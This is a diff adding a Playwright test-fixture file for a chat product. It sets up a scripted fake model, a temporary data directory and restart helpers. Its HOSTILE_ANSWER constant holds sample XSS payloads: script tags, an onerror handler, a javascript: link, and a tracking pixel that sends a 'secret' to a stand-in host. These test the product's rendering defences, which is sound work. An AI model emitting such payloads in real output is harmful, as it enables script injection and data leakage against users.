@@ -1,0 +1,97 @@
+import { mkdtemp, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { Page } from '@playwright/test';
+import { startModelFake, type ModelFake } from '#tests/fakes/model/model-fake.ts';
+import type { Scenario } from '#tests/fakes/model/script.ts';
+import { startProduct, type Product } from '#tests/support/product.ts';
+import { test as base } from './test.ts';
+
+/** 60 numbered words in six seconds: what is missing or there twice shows. */
+export const SLOW_WORDS = Array.from({ length: 60 }, (_, index) => `word${index + 1}`);
+export const SLOW_TEXT = SLOW_WORDS.join(' ');
+const slowAnswer = { say: SLOW_WORDS.map((word) => `${word} `), everyMs: 100 };
+
+export const LONG_PARAGRAPHS = 60;
+const longAnswer = {
+  say: Array.from({ length: LONG_PARAGRAPHS }, (_, index) => `Paragraph ${index + 1} of an answer that outgrows the window.\n\n`),
+  everyMs: 50,
+};
+
+/** What a model under somebody else's influence may write. */
+export const HOSTILE_ANSWER = [
+  '<script>window.hacked = true</script><img src="https://tracker.example/html.png" onerror="window.hacked = true">',
+  '[a link](javascript:window.hacked=true) and [data](data:text/html,hello) and [elsewhere](https://elsewhere.example/)',
+  '![a house](https://tracker.example/pixel.png?secret=1)',
+  `A word as long as a street: ${'x'.repeat(400)}`,
+  `| Address | ${'Price '.repeat(30)} |\n|---|---|\n| 1 Elm St | ${'$1 '.repeat(60)} |`,
+].join('\n\n');
+
+const scenarios = {
+  slow: [[[slowAnswer]]],
+  long: [[[longAnswer]]],
+  'slow-thinking': [[[{ think: ['The agent ', 'wants ', 'a garage.'], everyMs: 300 }, slowAnswer]]],
+  hostile: [[[{ say: [HOSTILE_ANSWER] }]]],
+} satisfies Record<string, Scenario>;
+
+interface ScriptedFixtures {
+  model: ModelFake;
+  /** Where the product keeps its data, and the process that runs now. */
+  home: { dataDir: string; port: number; running: Product };
+  /** kill -9, and the same product again on the same port and data. */
+  killAndRestart: () => Promise<void>;
+}
+
+/** The journeys' test, on a product whose model is scripted: a prompt that holds `scenario:NAME` gets that answer. */
+export const test = base.extend<object, ScriptedFixtures>({
+  model: [
+    async ({}, use) => {
+      const model = await startModelFake({ extra: scenarios });
+      await use(model);
+      await model.stop();
+    },
+    { scope: 'worker' },
+  ],
+
+  home: [
+    async ({ model }, use) => {
+      const dataDir = await mkdtemp(join(tmpdir(), 'sidekick-scripted-'));
+      const running = await startProduct({ dataDir, environment: environmentFor(model) });
+      const home = { dataDir, port: Number(new URL(running.url).port), running };
+      await use(home);
+      await home.running.stop();
+      await rm(dataDir, { recursive: true, force: true });
+    },
+    { scope: 'worker', timeout: 90_000 },
+  ],
+
+  product: [async ({ home }, use) => use(home.running), { scope: 'worker' }],
+
+  killAndRestart: [
+    async ({ home, model }, use) =>
+      use(async () => {
+        await home.running.kill();
+        home.running = await startProduct({ dataDir: home.dataDir, port: home.port, environment: environmentFor(model) });
+      }),
+    { scope: 'worker' },
+  ],
+});
+
+function environmentFor(model: ModelFake): Record<string, string> {
+  return { DEMO: 'on', LOG_LEVEL: 'fatal', ASSISTANT_MODEL: 'openai-compatible:fake', ASSISTANT_BASE_URL: model.baseUrl };
+}
+
+/** Makes an empty thread and opens it. */
+export async function openNewThread(page: Page, product: Product, cookie: string, title = 'A chat'): Promise<string> {
+  const id = await newThread(product, cookie, title);
+  await page.goto(`/chat/${id}`);
+  return id;
+}
+
+export async function newThread(product: Product, cookie: string, title = 'A chat'): Promise<string> {
+  const answer = await product.call(cookie, 'POST', '/api/chat/threads', { title });
+  if (!answer.ok) throw new Error(`The thread was not made: ${answer.status} ${await answer.text()}`);
+  return ((await answer.json()) as { id: string }).id;
+}
+
+export { expect } from '@playwright/test';
